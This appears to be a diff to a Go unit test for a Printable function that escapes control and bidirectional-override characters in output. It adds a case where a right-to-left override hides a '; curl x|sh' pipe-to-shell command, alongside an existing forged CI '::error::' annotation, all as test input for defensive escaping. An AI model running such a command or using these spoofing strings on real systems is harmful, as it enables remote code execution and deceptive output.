@@ -31,6 +31,7 @@ func TestPrintable(t *testing.T) {
 		"a.go\n::error::forged":       `a.go\n::error::forged`,
 		"c1 \u0085 next":              `c1 \x85 next`,
 		"tab\tstays":                  "tab\tstays",
+		"ok \u202e; curl x|sh":        `ok \u202e; curl x|sh`,
 	} {
 		if got := Printable(in, false); got != want {
 			t.Errorf("Printable(%q) = %q, want %q", in, got, want)
